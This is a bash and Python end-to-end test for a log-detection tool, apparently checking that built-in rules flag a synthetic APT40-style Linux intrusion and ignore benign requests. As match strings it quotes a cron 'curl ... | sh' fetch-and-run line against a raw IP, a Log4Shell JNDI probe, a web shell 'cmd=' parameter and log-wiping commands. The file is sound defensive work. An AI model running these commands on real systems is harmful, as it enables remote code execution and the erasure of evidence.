#!/usr/bin/env bash
# End to end: the synthetic APT40-style intrusion in ../shared/data/linux-samples is ingested with
# the built-in rules, and `trapline alerts` must list every detection its EXPECTED.md asks for, on
# events of the right file, and nothing on the benign lines.
set -euo pipefail

TRAPLINE=${TRAPLINE:-build/trapline}
src=${TRL_SRC:-$(cd "$(dirname "$0")/../.." && pwd)}
samples=${TRL_SHARED:-../shared}/data/linux-samples

if [ ! -f "$samples/EXPECTED.md" ]; then
    echo "skipped: $samples not found (shared data absent)"
    exit 77
fi
command -v python3 >/dev/null || { echo "skipped: python3 not found"; exit 77; }

work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT

# Every sample log; not the expectations, the web shell source, the crontab file itself, or the
# journalctl text that repeats db01-auth.log.
files=()
for f in "$samples"/*; do
    case $(basename "$f") in
    EXPECTED.md | thumb.php.sample | *crontab* | *cron-crontabs* | *journalctl-short.txt) ;;
    *) files+=("$f") ;;
    esac
done

"$TRAPLINE" ingest --no-progress --year 2024 --data "$work" --rules "$src/rules" "${files[@]}" \
    >"$work/ingest.log" 2>&1 || { cat "$work/ingest.log"; echo "FAIL ingest exited with an error"; exit 1; }
"$TRAPLINE" alerts --data "$work" --output json --limit 100000 >"$work/alerts.jsonl" ||
    { echo "FAIL trapline alerts exited with an error"; exit 1; }
# The events as the store gives them back.
"$TRAPLINE" search --data "$work" --from 2024-07-01 --to 2024-08-01 --limit 0 --output json '' \
    >"$work/events.jsonl" || { echo "FAIL trapline search exited with an error"; exit 1; }

python3 - "$work/events.jsonl" "$work/alerts.jsonl" <<'EOF'
import json, os, sys

events_path, alerts_path = sys.argv[1:3]

# event.id -> (sample file name, original text)
events = {}
for line in open(events_path):
    if not line.strip():
        continue
    e = json.loads(line)
    src = e.get("log", {}).get("source", {}).get("address", "")
    events[e["event"]["id"]] = (os.path.basename(src), e["event"].get("original", ""))

alerts = [json.loads(l) for l in open(alerts_path) if l.strip()]

# Rule ids of the built-in rules (rules/*/*.yml).
WEB_LOG4SHELL = "883d5485-55fd-4255-ac4a-f63c27fd9ac2"      # Log4Shell JNDI Lookup in a Web Request
WEB_SCANNER = "affda1ee-80e5-4007-8d2f-def755de43f4"        # Web Scanner Burst From One Source
WEB_UPLOAD_SCRIPT = "30e74f30-dfd4-40e8-b61c-743cec164986"  # Script Requested From an Upload Directory
WEB_CMD_PARAM = "5ff00c8b-1730-47c3-8e59-a4b94184674f"      # Web Shell Command Parameter
WEB_SHELL_SPAWN = "6fd52491-b57f-4859-ae05-0f71b5cb1fb0"    # Shell Spawned by a Web Server Account
WEB_RECON_TOOL = "97f04384-b242-4850-a111-941145168323"     # Discovery/Download Tool by Web Account
RAW_IP_DOWNLOAD = "3bcbceb3-a06b-438a-925a-b935353de70d"    # Download From a Raw IP Address
CURL_UPLOAD = "9ea6d725-bc7d-427c-8818-2392ff0dadbd"        # File Upload With curl or wget
SCANNER_EXEC = "3e5db970-9d71-4345-9c7b-04dffe27f6dc"       # Network Scanner Executed
AUDIT_SSH_FAIL = "a326f30c-e079-4bbf-b221-5c7fa5f16eff"     # Repeated SSH Auth Failures (audit)
SSH_BRUTE = "b8246bfe-b48e-4091-88f0-cc1293d1a285"          # SSH Brute Force From One Source
SSH_SPRAY = "88db41ea-d892-4ba8-8437-fcdecde43cad"          # SSH Password Spraying From One Source
SSH_BRUTE_SUCCESS = "2bb781d3-ab78-4304-978e-e2f70fadb76b"  # SSH Login Succeeded After Brute Force
SUDO_SHELL = "587887c9-5b81-42bd-a1c5-b289500d63d8"         # Interactive Root Shell Through sudo
ACCOUNT_CREATED = "f0fd873a-2b71-42d1-a3ed-948a817fb613"    # Local User Account Created
PRIV_GROUP = "e4450b55-4a96-4bf3-9edc-fd81b6d6bb05"         # User Added to a Privileged Linux Group
CRONTAB = "974cc5a1-59b6-46cf-8fb6-54afbc7a3bc4"            # Crontab Modified
CRON_CURL_SH = "8a23f655-8bee-4100-a354-3c86f5db7f6e"       # Cron Job Downloads a Script | shell
FIREWALL = "215e4c52-c82d-491d-aba5-8b31dd018514"           # Host Firewall Opened for Inbound Traffic
CLEAR_LOGS = "9543e37a-1cdc-448b-89d7-9e7da988b432"         # System Logs Cleared or Truncated

NGINX, APACHE = "web01-nginx-access.log", "web01-apache-access.log"
WEB_AUDIT, WEB_AUTH = "web01-audit.log", "web01-auth.log"
DB_AUTH, DB_AUTH_ISO = "db01-auth.log", "db01-auth-iso8601.log"

def hits(rule_id, fname, needle=None):
    """Events of file fname (whose original text contains needle) that alerts of rule_id name."""
    found = set()
    for a in alerts:
        if a["rule_id"] != rule_id:
            continue
        for eid in a["event_ids"]:
            f, orig = events.get(eid, ("", ""))
            if f == fname and (needle is None or needle in orig):
                found.add(eid)
    return found

def group_fired(rule_id, fname, key, value):
    return any(a["rule_id"] == rule_id and a["group_by"].get(key) == value and
               any(events.get(e, ("",))[0] == fname for e in a["event_ids"]) for a in alerts)

failures = []
def expect(what, ok):
    print(("ok   " if ok else "FAIL ") + what)
    if not ok:
        failures.append(what)

# 1. Web access logs (nginx and the same requests in apache's log).
for f in (NGINX, APACHE):
    expect(f"{f}: Log4Shell probe x1", len(hits(WEB_LOG4SHELL, f, "${jndi:")) == 1)
    expect(f"{f}: scanner burst from 203.0.113.45",
           group_fired(WEB_SCANNER, f, "source.ip", "203.0.113.45"))
    expect(f"{f}: web shell access x6", len(hits(WEB_UPLOAD_SCRIPT, f, "/uploads/img/thumb.php")) == 6)
    expect(f"{f}: web shell command parameter", len(hits(WEB_CMD_PARAM, f, "cmd=")) == 3)

# 2. web01's audit log.
expect(f"{WEB_AUDIT}: web-server-spawned shell x8", len(hits(WEB_SHELL_SPAWN, WEB_AUDIT)) == 8)
expect(f"{WEB_AUDIT}: recon/download tools run as www-data", len(hits(WEB_RECON_TOOL, WEB_AUDIT)) >= 2)
expect(f"{WEB_AUDIT}: curl to a raw IP x2", len(hits(RAW_IP_DOWNLOAD, WEB_AUDIT)) == 2)
expect(f"{WEB_AUDIT}: exfiltration with curl -T x1", len(hits(CURL_UPLOAD, WEB_AUDIT)) == 1)
expect(f"{WEB_AUDIT}: internal scan tool x1", len(hits(SCANNER_EXEC, WEB_AUDIT)) == 1)
expect(f"{WEB_AUDIT}: sshd authentication failures x2", len(hits(AUDIT_SSH_FAIL, WEB_AUDIT)) == 2)

# 3. web01's auth.log.
expect(f"{WEB_AUTH}: SSH brute force from 203.0.113.45",
       group_fired(SSH_BRUTE, WEB_AUTH, "source.ip", "203.0.113.45"))
expect(f"{WEB_AUTH}: SSH password spraying from 203.0.113.45",
       group_fired(SSH_SPRAY, WEB_AUTH, "source.ip", "203.0.113.45"))

# 4. db01's auth.log, in both timestamp layouts.
for f in (DB_AUTH, DB_AUTH_ISO):
    expect(f"{f}: internal SSH brute force from 10.20.1.15",
           group_fired(SSH_BRUTE, f, "source.ip", "10.20.1.15"))
    expect(f"{f}: brute force then successful login",
           group_fired(SSH_BRUTE_SUCCESS, f, "source.ip", "10.20.1.15") and
           bool(hits(SSH_BRUTE_SUCCESS, f, "Accepted password for svc_backup")))
    expect(f"{f}: sudo shell", bool(hits(SUDO_SHELL, f, "COMMAND=/bin/bash")))
    expect(f"{f}: new account", bool(hits(ACCOUNT_CREATED, f, "new user: name=sysmaint")))
    expect(f"{f}: account added to the sudo group x1",
           len(hits(PRIV_GROUP, f, "add 'sysmaint' to group 'sudo'")) == 1 and
           not hits(PRIV_GROUP, f, "shadow group"))
    expect(f"{f}: crontab modified", bool(hits(CRONTAB, f, "REPLACE")))
    expect(f"{f}: cron runs curl piped to sh", bool(hits(CRON_CURL_SH, f, "curl -s http://198.51.100.77/b | sh")))
    expect(f"{f}: firewall opened on 9998 and 9999",
           bool(hits(FIREWALL, f, "--dport 9998")) and bool(hits(FIREWALL, f, "--dport 9999")))
    expect(f"{f}: journald vacuum", bool(hits(CLEAR_LOGS, f, "journalctl --vacuum-time")))
    expect(f"{f}: wtmp/btmp truncation", bool(hits(CLEAR_LOGS, f, "truncate -s 0 /var/log/wtmp")))

# Benign lines raise nothing.
alerted = {eid for a in alerts for eid in a["event_ids"]}
for f in (NGINX, APACHE):
    for needle in ('192.0.2.200 - - [09/Jul/2024:22:09:58 +0000] "GET / HTTP/1.1"',
                   '192.0.2.201 - - [09/Jul/2024:22:21:30 +0000] "GET /static/app.css'):
        ids = {eid for eid, (ef, orig) in events.items() if ef == f and orig.startswith(needle)}
        expect(f"{f}: benign request {needle.split()[0]} is in the events and raised no alert",
               len(ids) == 1 and not ids & alerted)
only_benign = [a for a in alerts
               if a["event_ids"] and all(events.get(e, ("", ""))[1].startswith("192.0.2.") for e in a["event_ids"])]
expect("no alert consists only of benign web requests", not only_benign)

print(f"{len(alerts)} alerts, {len(failures)} expectation(s) failed")
sys.exit(1 if failures else 0)
EOF
